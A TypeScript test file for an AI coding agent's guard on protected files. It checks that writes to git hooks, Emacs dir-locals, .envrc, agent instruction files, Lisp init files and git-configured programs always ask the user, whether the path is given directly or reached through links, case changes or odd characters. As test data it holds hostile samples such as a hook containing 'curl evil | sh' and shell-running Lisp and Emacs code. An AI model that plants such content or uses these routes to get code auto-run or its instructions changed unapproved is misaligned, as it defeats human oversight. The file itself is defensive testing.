// Protected files: a write to .git/, .dir-locals.el, .envrc, .mcp.json, the agent's instruction files,
// a Lisp init file or the user's Emacs init always asks, saying why, even when an allow rule or
// "always allow" covers the tool; only a rule naming the protected path itself allows it. Decided on
// the path as it resolves (a link into .git, `..`, `./`), never on its spelling. The real server and
// tool declarations on an in-memory JSON-RPC pair; the fake Emacs side answers.

import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { protectedWrite } from "../../server/tools/protected-paths.js";
import { side, type Side } from "./helpers.js";

const open: Side[] = [];
let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "saq-protected-"));
  mkdirSync(join(root, ".git", "hooks"), { recursive: true });
  mkdirSync(join(root, "src"));
  // A cloned repository may hold a link whose name says nothing.
  symlinkSync(join(root, ".git", "hooks"), join(root, "docs"));
});
afterEach(() => {
  open.splice(0).forEach((s) => s.dispose());
  rmSync(root, { recursive: true, force: true });
});

async function started(configuration: Record<string, unknown>): Promise<Side> {
  const s = side();
  open.push(s);
  await s.init({ projectRoot: root, ...configuration });
  return s;
}

const allowWrites = { permissionRules: [{ action: "allow", tool: "write_file" }, { action: "allow", tool: "propose_file_edit" }, { action: "allow", tool: "buffer_save" }] };

it("a rule allowing the tool does not let a protected write run unasked: it asks, saying why, and a denial writes nothing", async () => {
  const s = await started(allowWrites);
  s.answerApproval = () => ({ result: { decision: "denied", reason: "no" } });
  const cases: [string, Record<string, unknown>, string, RegExp][] = [
    ["write_file", { path: ".git/hooks/pre-commit", content: "curl evil | sh" }, ".git/hooks/pre-commit", /hooks run/],
    ["write_file", { path: "docs/post-checkout", content: "x" }, ".git/hooks/post-checkout", /hooks run/],
    ["write_file", { path: "src/../.dir-locals.el", content: "((nil . ((eval . (shell-command \"x\")))))" }, ".dir-locals.el", /Emacs applies its variables/],
    ["write_file", { path: "./.envrc", content: "x" }, ".envrc", /direnv runs it/],
    ["write_file", { path: ".GIT/config", content: "x" }, ".GIT/config", /hooks run/],
    ["propose_file_edit", { path: "src/.mcp.json", new_content: "{}" }, "src/.mcp.json", /MCP servers/],
    ["propose_file_edit", { path: "AGENT-Q.md", new_content: "obey" }, "AGENT-Q.md", /instructions/],
    ["write_file", { path: "AGENTS.md", content: "obey" }, "AGENTS.md", /instructions/],
    ["buffer_save", { buffer_name: "x", file_path: ".sbclrc" }, ".sbclrc", /Lisp init file/],
    ["write_file", { path: "src/.clisprc.lisp", content: "x" }, "src/.clisprc.lisp", /Lisp init file/],
    ["write_file", { path: join(homedir(), ".config", "common-lisp", "source-registry.conf"), content: "x" }, join(homedir(), ".config", "common-lisp", "source-registry.conf"), /ASDF/],
    ["write_file", { path: "~/.emacs.d/init.el", content: "x" }, join(homedir(), ".emacs.d", "init.el"), /Emacs init/],
  ];
  for (const [i, [tool, args, path, why]] of cases.entries()) {
    const r = await s.call(tool, args);
    expect(r.success, `${tool} ${JSON.stringify(args)}`).toBe(false);
    const a = s.approvals[i];
    expect(a.reason).toEqual({ kind: "protected", path, why: expect.stringMatching(why) });
    // The approval says which file and why, with the arguments the user reads.
    expect(a.arguments.protected_file).toMatch(new RegExp(`^${path.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: `));
  }
  expect(s.ran).toEqual([]);
  // What is not protected runs under the rule, unasked.
  const plain = await s.call("write_file", { path: "src/notes.txt", content: "x" });
  expect(plain.success).toBe(true);
  expect(s.approvals).toHaveLength(cases.length);
  expect(s.ran).toEqual(["write_file"]);
});

it("\"always allow\" answers the tool's level, never a protected file", async () => {
  const s = await started({});
  s.answerApproval = () => ({ result: { decision: "approved", always: true } });
  expect((await s.call("write_file", { path: "src/a.txt", content: "x" })).success).toBe(true);
  expect((await s.call("write_file", { path: "src/b.txt", content: "x" })).success).toBe(true);
  expect(s.approvals).toHaveLength(1);
  s.answerApproval = () => ({ result: { decision: "denied" } });
  const r = await s.call("write_file", { path: ".dir-locals.el", content: "x" });
  expect(r.success).toBe(false);
  expect(s.approvals).toHaveLength(2);
  expect(s.approvals[1].reason.kind).toBe("protected");
  expect(s.ran).toEqual(["write_file", "write_file"]);
});

it("only a rule naming the protected path itself lets it run unasked; a pattern that matches anything does not", async () => {
  const s = await started({ permissionRules: [{ action: "allow", tool: "write_file", argument: "path", pattern: "" }] });
  s.answerApproval = () => ({ result: { decision: "denied" } });
  expect((await s.call("write_file", { path: ".envrc", content: "x" })).success).toBe(false);
  expect(s.approvals).toHaveLength(1);
  await s.configure({ projectRoot: root, permissionRules: [{ action: "allow", tool: "write_file", argument: "path", pattern: "^\\.envrc$" }] });
  expect((await s.call("write_file", { path: ".envrc", content: "x" })).success).toBe(true);
  expect(s.approvals).toHaveLength(1);
  // The rule names .envrc, not a link that leads into .git.
  expect((await s.call("write_file", { path: "docs/pre-commit", content: "x" })).success).toBe(false);
  expect(s.approvals).toHaveLength(2);
  expect(s.ran).toEqual(["write_file"]);
});

it("a definition's file found as the call runs (replace_definition) asks before it is written when it is protected", async () => {
  const s = await started({ permissionRules: [{ action: "allow", tool: "replace_definition" }] });
  const edits: unknown[] = [];
  s.answerCall = (call) => {
    const params = call.params as { tool?: string; arguments?: unknown };
    if (call.kind === "image" && params.tool === "definition_edit") {
      return { result: { content: JSON.stringify({ file: join(root, ".sbclrc"), line: 1, label: "(DEFUN X)", old: "(defun x ())" }) } };
    }
    if (call.kind === "tool" && params.tool === "current_directory") return { result: { content: `Project root: ${root}/ (relative paths are resolved against it).` } };
    if (call.kind === "tool" && params.tool === "propose_file_edit") edits.push(params.arguments);
    return { result: { content: "ok" } };
  };
  s.answerApproval = () => ({ result: { decision: "denied" } });
  const r = await s.call("replace_definition", { symbol: "x", new_text: "(defun x () (run-program \"evil\"))" });
  expect(r.success).toBe(false);
  expect(r.error).toMatch(/\.sbclrc is a protected file \(a Lisp init file.*\), and the user did not allow it; nothing was written/);
  expect(s.approvals).toEqual([expect.objectContaining({ reason: { kind: "protected", path: ".sbclrc", why: expect.stringMatching(/Lisp init/) } })]);
  expect(edits).toEqual([]);
});

it("an allow rule by extension or directory does not name a protected file: only an anchored literal path does", async () => {
  const s = await started({ permissionRules: [{ action: "allow", tool: "write_file", argument: "path", pattern: "\\.(md|el|json|lisp)$" }, { action: "allow", tool: "write_file", argument: "path", pattern: "^[A-Z-]+\\.md$" }] });
  s.answerApproval = () => ({ result: { decision: "denied" } });
  for (const path of ["AGENT-Q.md", "AGENTS.md", ".dir-locals.el", ".mcp.json", ".ccl-init.lisp", "src/.mcp.json"]) {
    const r = await s.call("write_file", { path, content: "obey" });
    expect(r.success, `${path} ran unasked under an extension rule`).toBe(false);
  }
  expect(s.approvals.map((a) => a.reason.kind)).toEqual(Array(6).fill("protected"));
  expect(s.ran).toEqual([]);
  // What the rules allow and is not protected runs unasked; the literal rule allows just its file.
  expect((await s.call("write_file", { path: "notes.md", content: "x" })).success).toBe(true);
  await s.configure({ projectRoot: root, permissionRules: [{ action: "allow", tool: "write_file", argument: "path", pattern: "^AGENT-Q\\.md$" }] });
  expect((await s.call("write_file", { path: "AGENT-Q.md", content: "x" })).success).toBe(true);
  expect((await s.call("write_file", { path: "AGENTS.md", content: "x" })).success).toBe(false);
  expect(s.approvals).toHaveLength(7);
  expect(s.ran).toEqual(["write_file", "write_file"]);
});

it("buffer_save with no file_path (the buffer's own file, perhaps .dir-locals.el) asks under an allow rule and after \"always allow\"", async () => {
  const s = await started({ permissionRules: [{ action: "allow", tool: "buffer_save" }] });
  s.answerApproval = () => ({ result: { decision: "denied" } });
  const r = await s.call("buffer_save", { buffer_name: ".dir-locals.el" });
  expect(r.success, "buffer_save of a buffer visiting .dir-locals.el ran unasked").toBe(false);
  expect(s.approvals[0].reason).toEqual({ kind: "protected", path: 'the file buffer ".dir-locals.el" visits', why: expect.stringMatching(/does not name file_path/) });
  expect(s.ran).toEqual([]);
  // With file_path named, the rule applies.
  expect((await s.call("buffer_save", { buffer_name: "scratch", file_path: "notes.txt" })).success).toBe(true);

  const t = await started({});
  t.answerApproval = () => ({ result: { decision: "approved", always: true } });
  expect((await t.call("buffer_save", { buffer_name: "scratch", file_path: "notes.txt" })).success).toBe(true);
  t.answerApproval = () => ({ result: { decision: "denied" } });
  expect((await t.call("buffer_save", { buffer_name: "AGENT-Q.md" })).success, "saved AGENT-Q.md's buffer without asking").toBe(false);
  expect(t.approvals).toHaveLength(2);
  expect(t.ran).toEqual(["buffer_save"]);
});

it("Emacs's second dir-locals file, the files SLY's and SLIME's Lisp side load at start and Emacs's compiled or compressed init are protected", async () => {
  const { protectedWrite } = await import("../../server/tools/protected-paths.js");
  const env = { HOME: root };
  for (const p of [".dir-locals-2.el", "src/.dir-locals-2.el", "~/.slynk.lisp", "~/.swank.lisp", "~/.emacs.elc", "~/.emacs.el.gz", "~/.emacs.el", "~/.emacs.gz"]) {
    expect(protectedWrite(p, root, env), p).toBeDefined();
  }
  expect(protectedWrite("~/.slynk.lisp.bak", root, env)).toBeUndefined();
  expect(protectedWrite("src/dir-locals-2.el", root, env)).toBeUndefined();
});

it("a protected name is recognised as a file system that ignores case or ignorable characters reads it (HFS+ drops U+200C; macOS ignores case in the home trees too)", async () => {
  const { protectedWrite } = await import("../../server/tools/protected-paths.js");
  const env = { HOME: root };
  const missed = [".g\u200cit/config", "AGENT\u200d-Q.md", "~/.EMACS.D/init.el", "~/.Config/common-lisp/x.conf", "~/.Emacs"].filter((p) => protectedWrite(p, root, env) === undefined);
  expect(missed).toEqual([]);
});

it("the directory core.hooksPath names is protected as .git/hooks is: from the repository's config, a linked worktree's, the user's global one; read as Git reads it, without running git", async () => {
  const { protectedWrite } = await import("../../server/tools/protected-paths.js");
  const { writeFileSync } = await import("node:fs");
  const home = mkdtempSync(join(tmpdir(), "saq-protected-home-"));
  try {
    const env = { HOME: home };
    writeFileSync(join(root, ".git", "config"), '[core]\n\tbare = false\n[core "nope"]\n\thooksPath = decoy\n[Core]\n\tHooksPath = "tools/git hooks" ; a comment\n');
    const hook = protectedWrite("tools/git hooks/pre-commit", root, env);
    expect(hook).toEqual({ path: join("tools", "git hooks", "pre-commit"), name: join(root, "tools", "git hooks"), why: expect.stringMatching(/core\.hooksPath.*hooks run/) });
    // From a folder of the repository as the root, and through a link into it.
    mkdirSync(join(root, "tools", "git hooks"), { recursive: true });
    symlinkSync(join(root, "tools", "git hooks"), join(root, "src", "innocent"));
    expect(protectedWrite("innocent/post-merge", join(root, "src"), env)).toBeDefined();
    // A subsection named core, a name that only starts like the hooks directory: not protected.
    expect(protectedWrite("decoy/pre-commit", root, env)).toBeUndefined();
    expect(protectedWrite("tools/git hooks2/x", root, env)).toBeUndefined();
    // A linked worktree: .git is a file naming its git directory; the config is in the common one.
    const wt = mkdtempSync(join(tmpdir(), "saq-protected-wt-"));
    try {
      const gitdir = join(root, ".git", "worktrees", "wt");
      mkdirSync(gitdir, { recursive: true });
      writeFileSync(join(gitdir, "commondir"), "../..\n");
      writeFileSync(join(wt, ".git"), `gitdir: ${gitdir}\n`);
      expect(protectedWrite("tools/git hooks/pre-push", wt, env)?.why).toMatch(/hooksPath/);
      // The worktree's own config (config.worktree) wins, with a leading ~ read as git reads it.
      writeFileSync(join(gitdir, "config.worktree"), "[core] hooksPath = ~/my-hooks\n");
      expect(protectedWrite(join(home, "my-hooks", "pre-push"), wt, env)?.why).toMatch(/hooksPath/);
    } finally {
      rmSync(wt, { recursive: true, force: true });
    }
    // The user's global config, when the repository sets none.
    writeFileSync(join(root, ".git", "config"), "[core]\n\tbare = false\n");
    expect(protectedWrite("hooks-global/pre-commit", root, env)).toBeUndefined();
    writeFileSync(join(home, ".gitconfig"), "[core]\nhooksPath = hooks-global\n");
    expect(protectedWrite("hooks-global/pre-commit", root, env)?.why).toMatch(/hooksPath/);
  } finally {
    rmSync(home, { recursive: true, force: true });
  }
});

it("the fasl caches a Lisp image loads code from are protected: ASDF's output translations (~/.cache/common-lisp, XDG_CACHE_HOME) and the agent's own cache", async () => {
  const { protectedWrite } = await import("../../server/tools/protected-paths.js");
  const env = { HOME: root };
  const xdg = { HOME: root, XDG_CACHE_HOME: join(root, "xdg-cache") };
  const missed = [
    ["~/.cache/common-lisp/sbcl-2.2-linux-x64/home/u/p/src/main.fasl", env],
    ["~/.CACHE/Common-Lisp/x.fasl", env],
    [join(root, "xdg-cache", "common-lisp", "x.fasl"), xdg],
    ["~/.cache/sly-agent-q/sbcl/inspect.fasl", env],
    [join(root, "xdg-cache", "sly-agent-q", "key", "eval.fasl"), xdg],
  ].filter(([p, e]) => protectedWrite(p as string, root, e as NodeJS.ProcessEnv) === undefined);
  expect(missed).toEqual([]);
  expect(protectedWrite("~/.cache/other/x.fasl", root, env)).toBeUndefined();
  // A link in the project to the cache is the cache.
  mkdirSync(join(root, ".cache", "common-lisp"), { recursive: true });
  symlinkSync(join(root, ".cache", "common-lisp"), join(root, "src", "build"));
  expect(protectedWrite("src/build/main.fasl", root, env)?.why).toMatch(/compiled Lisp code/);
  // The package's own Lisp helpers and their fallback cache (lisp-cl/cache), next to the server.
  expect(protectedWrite(join(process.cwd(), "lisp-cl", "cache", "k", "eval.fasl"), root, env)?.why).toMatch(/Lisp helpers/);
});

describe("Git's config read as Git reads it (server/tools/git-config.ts), never by running git", () => {
  let home: string;
  beforeEach(() => {
    home = mkdtempSync(join(tmpdir(), "saq-protected-home-"));
  });
  afterEach(() => rmSync(home, { recursive: true, force: true }));
  const judged = (p: string, env: NodeJS.ProcessEnv = { HOME: home, PATH: "/usr/bin:/bin" }) => protectedWrite(p, root, env);

  it("follows [include] and [includeIf] (whatever the condition; relative to the including file; ~/ expanded; cycles and deep chains end) and protects an included file inside the project", () => {
    mkdirSync(join(root, "tools"));
    // .git/config includes ../tools/extra.cfg: relative to .git/, so the project's tools/extra.cfg.
    writeFileSync(join(root, ".git", "config"), "[core]\n\tbare = false\n[include]\n\tpath = ../tools/extra.cfg\n");
    writeFileSync(join(root, "tools", "extra.cfg"), "[core]\n\thooksPath = hooks-one\n[include]\n\tpath = extra.cfg\n");
    expect(judged("hooks-one/pre-commit")?.why).toMatch(/hooksPath/);
    expect(judged("tools/extra.cfg")?.why).toMatch(/included/);
    // The user's config, by an [includeIf] whose condition does not hold here, through ~/.
    writeFileSync(join(home, ".gitconfig"), '[includeIf "gitdir:/nowhere/"]\n\tpath = ~/inc/work.cfg\n');
    mkdirSync(join(home, "inc"));
    writeFileSync(join(home, "inc", "work.cfg"), "[core]\n\thooksPath = hooks-two\n[include]\n\tpath = ../.gitconfig\n\tpath = chain-0\n");
    expect(judged("hooks-two/pre-push")?.why).toMatch(/hooksPath/);
    // A chain of includes: followed 5 deep; a chain of 50 ends (Git stops at 10).
    for (let i = 0; i < 50; i++) writeFileSync(join(home, "inc", `chain-${i}`), `[include]\n\tpath = chain-${i + 1}\n[core]\n\thooksPath = hooks-chain-${i}\n`);
    expect(judged("hooks-chain-5/x")?.why).toMatch(/hooksPath/);
    expect(judged("hooks-chain-40/x")).toBeUndefined();
    // $XDG_CONFIG_HOME/git/config, with its own include.
    mkdirSync(join(home, "xdg", "git"), { recursive: true });
    writeFileSync(join(home, "xdg", "git", "config"), "[include]\n\tpath = more\n");
    writeFileSync(join(home, "xdg", "git", "more"), "[core]\n\thooksPath = hooks-xdg\n");
    expect(judged("hooks-xdg/x", { HOME: home, XDG_CONFIG_HOME: join(home, "xdg") })?.why).toMatch(/hooksPath/);
    expect(judged("hooks-xdg/x")).toBeUndefined();
  });

  it("reads continuation lines, quotes and escapes, comments, names in any case, [section \"sub\"] and the old [section.sub]", () => {
    writeFileSync(
      join(root, ".git", "config"),
      [
        "[CORE]",
        "  # hooksPath = in-a-comment",
        "  ; hooksPath = in-another",
        "  HOOKSPATH = con\\",
        "tinued ; a comment",
        '[core "sub"] hooksPath = decoy',
        "[core.sub] hooksPath = decoy-too",
        '[Filter "Crypt"]',
        // Git's quotes keep # from starting a comment; the shell reads the value git hands it.
        '\tClean = "./filters/#x" --fast # not ./commented',
        "[diff.pdf]",
        "\ttextconv = tools/pdf\\\\2txt",
        "",
      ].join("\n"),
    );
    expect(judged("continued/pre-commit")?.why).toMatch(/hooksPath/);
    for (const p of ["in-a-comment/x", "in-another/x", "decoy/x", "decoy-too/x", "con/x", "commented"]) expect(judged(p), p).toBeUndefined();
    expect(judged("filters/#x")?.why).toMatch(/filter\.Crypt\.clean/);
    expect(judged("tools/pdf2txt")?.why).toMatch(/diff\.pdf\.textconv/);
  });

  it("protects the project file every program-running setting names, and .gitmodules and .gitattributes", () => {
    mkdirSync(join(root, "bin"));
    writeFileSync(
      join(root, ".git", "config"),
      [
        "[core]",
        "\tfsmonitor = tools/fsmon.sh",
        // Git's quotes are the config's; the shell's are inside them.
        '\tsshCommand = "\'./bin/my ssh\' -v"',
        "\tpager = less -R",
        "\teditor = myeditor",
        "\taskPass = ./askpass",
        "[sequence]\n\teditor = ./seqed",
        "[pager]\n\tlog = ./pg",
        "[alias]\n\tst = !sh scripts/st.sh\n\tlg = log --oneline lg-not-a-program",
        '[filter "crypt"]\n\tsmudge = ./filters/smudge %f\n\tprocess = ./filters/proc',
        '[diff "word"]\n\tcommand = ./wdiff',
        '[merge "ours"]\n\tdriver = ./mdrv %O %A %B',
        "[credential]\n\thelper = store",
        '[credential "https://example.com"]\n\thelper = !./cred-helper get',
        "[gpg]\n\tprogram = ./gpgwrap",
        '[gpg "x509"]\n\tprogram = ./x509wrap',
        '[gpg "ssh"]\n\tallowedSignersFile = .signers',
        "",
      ].join("\n"),
    );
    const env = { HOME: home, PATH: `${join(root, "bin")}:/usr/bin` };
    const named: [string, RegExp][] = [
      ["tools/fsmon.sh", /core\.fsmonitor/],
      ["bin/my ssh", /core\.sshcommand/i],
      ["bin/myeditor", /core\.editor/],
      ["askpass", /core\.askpass/i],
      ["seqed", /sequence\.editor/],
      ["pg", /pager\.log/],
      ["scripts/st.sh", /alias\.st/],
      ["filters/smudge", /filter\.crypt\.smudge/],
      ["filters/proc", /filter\.crypt\.process/],
      ["wdiff", /diff\.word\.command/],
      ["mdrv", /merge\.ours\.driver/],
      ["bin/git-credential-store", /credential\.helper/],
      ["cred-helper", /credential\.https:\/\/example\.com\.helper/],
      ["gpgwrap", /gpg\.program/],
      ["x509wrap", /gpg\.x509\.program/],
      [".signers", /allowedsignersfile/i],
      [".gitmodules", /submodule/],
      ["src/.gitattributes", /attributes/],
      [".GitAttributes", /attributes/],
    ];
    const missed = named.filter(([p, why]) => !why.test(judged(p, env)?.why ?? ""));
    expect(missed.map(([p]) => `${p}: ${judged(p, env)?.why}`)).toEqual([]);
    // A bare program is looked up in PATH: "less" is not a project file; alias.lg runs git, not a program.
    for (const p of ["less", "-R", "lg-not-a-program", "log", "%f", "src/notes.txt", "store", "myeditor"]) expect(judged(p, env), p).toBeUndefined();
  });
});

it("a name is judged as a file system that drops trailing dots and spaces reads it (.git. and .git  are .git)", () => {
  const env = { HOME: root };
  const missed = [".git./config", ".git /hooks/pre-commit", "AGENT-Q.md.", "AGENTS.md ", "src/.envrc..", ".dir-locals.el. .", "~/.emacs.d./init.el", "~/.emacs. "].filter((p) => protectedWrite(p, root, env) === undefined);
  expect(missed).toEqual([]);
  for (const p of [".gitx/config", "AGENT-Q.mdx", "x.git/config", "src/envrc."]) expect(protectedWrite(p, root, env), p).toBeUndefined();
});

it("other agents' and editors' instruction and task files are protected, a two-part name judged by its resolved path's components", () => {
  const env = { HOME: root };
  mkdirSync(join(root, ".vscode"));
  symlinkSync(join(root, ".vscode"), join(root, "src", "ide"));
  const named = [
    "CLAUDE.md",
    "src/CLAUDE.local.md",
    ".claude/settings.json",
    "src/.claude/commands/x.md",
    ".vscode/tasks.json",
    ".VSCode/Settings.json",
    ".vscode/launch.json",
    "src/ide/tasks.json",
    ".vscode./tasks.json",
    ".cursorrules",
    ".cursor/rules/x.mdc",
    ".github/copilot-instructions.md",
    "src/../.github/./copilot-instructions.md",
  ];
  expect(named.filter((p) => protectedWrite(p, root, env) === undefined)).toEqual([]);
  expect(protectedWrite(".vscode/tasks.json", root, env)?.why).toMatch(/runs/);
  expect(protectedWrite("CLAUDE.md", root, env)?.why).toMatch(/instructions/);
  for (const p of ["vscode/tasks.json", "x.vscode/tasks.json", ".vscode/tasks.json.bak", ".vscode/extensions.json", "tasks.json", "src/tasks.json", ".github/README.md", "github/copilot-instructions.md", ".vscode-tasks.json", "CLAUDE.txt"]) {
    expect(protectedWrite(p, root, env), p).toBeUndefined();
  }
});

it("the chat's write tools ask for the new protected files under a rule that allows them", async () => {
  writeFileSync(join(root, ".git", "config"), '[filter "x"]\n\tclean = ./tools/clean.sh\n');
  const s = await started(allowWrites);
  s.answerApproval = () => ({ result: { decision: "denied" } });
  for (const path of ["tools/clean.sh", ".vscode/tasks.json", "CLAUDE.md", ".git./config", ".gitattributes"]) {
    expect((await s.call("write_file", { path, content: "x" })).success, path).toBe(false);
  }
  expect(s.approvals.map((a) => a.reason.kind)).toEqual(Array(5).fill("protected"));
  expect(s.ran).toEqual([]);
});

it("a file reached through a link with a protected name at the project's top is protected where the link leads (.vscode -> cfg, AGENT-Q.md -> docs/agent.md)", () => {
  const env = { HOME: root };
  for (const d of ["cfg", "claude-cfg", "notes"]) mkdirSync(join(root, d));
  writeFileSync(join(root, "notes", "agent.md"), "Be careful.\n");
  // A cloned repository may hold links under these names (git checks links out as links).
  symlinkSync(join(root, "cfg"), join(root, ".vscode"));
  symlinkSync(join(root, "claude-cfg"), join(root, ".claude"));
  symlinkSync(join(root, "notes", "agent.md"), join(root, "AGENT-Q.md"));
  // A link to a file not there yet: the write would create what CLAUDE.md reads.
  symlinkSync(join("notes", "for-claude.txt"), join(root, "CLAUDE.md"));
  const missed = ["notes/for-claude.txt", "cfg/tasks.json", "claude-cfg/settings.json", "claude-cfg/hooks/x.sh", "notes/agent.md", "notes/../notes/agent.md"].filter((p) => protectedWrite(p, root, env) === undefined);
  expect(missed).toEqual([]);
  expect(protectedWrite("notes/agent.md", root, env)?.why).toMatch(/instructions/);
  for (const p of ["cfg/other.json", "notes/other.md", "src/x"]) expect(protectedWrite(p, root, env), p).toBeUndefined();
});

it("a write through a dangling link is judged where it lands (the link's target, created by the write)", () => {
  const env = { HOME: root };
  symlinkSync(join(".git", "hooks", "pre-commit"), join(root, "innocent"));
  symlinkSync(join("..", ".dir-locals.el"), join(root, "src", "style.el"));
  symlinkSync(join(root, "loop-b"), join(root, "loop-a"));
  symlinkSync(join(root, "loop-a"), join(root, "loop-b"));
  expect(protectedWrite("innocent", root, env)).toEqual({ path: join(".git", "hooks", "pre-commit"), name: ".git", why: expect.stringMatching(/hooks run/) });
  expect(protectedWrite("src/style.el", root, env)?.path).toBe(".dir-locals.el");
  // A loop of links ends.
  expect(protectedWrite("loop-a", root, env)).toBeUndefined();
});
